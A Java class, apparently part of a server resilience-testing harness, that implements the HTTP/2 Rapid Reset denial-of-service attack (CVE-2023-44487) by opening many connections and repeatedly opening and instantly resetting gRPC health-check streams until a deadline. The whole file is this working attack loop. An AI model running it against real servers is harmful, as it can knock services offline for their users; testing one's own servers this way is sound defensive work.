package dev.lookaside.trials.bounds.misdeed;

import dev.lookaside.testing.http2.Http2Peer;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/** Calls that are taken back as soon as they are made, on many connections (CVE-2023-44487). */
public final class RapidReset implements Misdeed {
  private final int connections;

  public RapidReset(int connections) {
    this.connections = connections;
  }

  @Override
  public void commit(Target target, Told told, Deadline end) throws InterruptedException {
    List<Http2Peer> peers = new ArrayList<>();
    long resets = 0;
    while (!end.isOver()) {
      if (peers.size() < connections) {
        Http2Peer peer = BadPeer.http2(target.rpc());
        if (peer == null) {
          told.add("not let in");
        } else {
          peers.add(peer);
        }
      }
      for (Iterator<Http2Peer> each = peers.iterator(); each.hasNext() && !end.isOver(); ) {
        Http2Peer peer = each.next();
        if (peer.isOpen()) {
          peer.reset(peer.open("/grpc.health.v1.Health/Check"));
          resets++;
        } else {
          told.add("cut: " + peer.lastWords());
          peer.close();
          each.remove();
        }
      }
    }
    told.add("%,d calls taken back".formatted(resets));
    end.await();
    peers.forEach(Http2Peer::close);
  }
}
